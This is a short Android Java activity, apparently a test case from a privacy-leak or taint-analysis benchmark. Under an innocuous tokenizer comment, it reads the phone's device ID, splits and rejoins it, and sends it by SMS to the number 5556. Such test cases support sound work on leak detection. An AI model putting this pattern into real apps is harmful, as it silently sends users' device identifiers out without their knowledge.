package org.brookside.ways;

import android.app.*;
import android.content.*;
import android.content.res.Configuration;
import android.database.*;
import android.database.sqlite.*;
import android.location.*;
import android.net.Uri;
import android.os.*;
import android.telephony.*;
import android.text.*;
import android.util.*;
import android.view.*;
import android.webkit.*;
import android.widget.*;
import java.io.*;
import java.lang.ref.*;
import java.lang.reflect.*;
import java.net.*;
import java.util.*;
import java.util.concurrent.*;
import java.util.concurrent.atomic.*;
import java.util.regex.*;

/** Through a tokenizer and a list of texts joined. */
public class Tokens extends Case {
    @Override protected void onCreate(Bundle s) {
        super.onCreate(s);
        StringTokenizer t = new StringTokenizer(((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getDeviceId(), "4");
        List<String> l = new ArrayList<>();
        while (t.hasMoreTokens()) l.add(t.nextToken());
        SmsManager.getDefault().sendTextMessage("5556", null, TextUtils.join(",", l), null, null);
    }
}
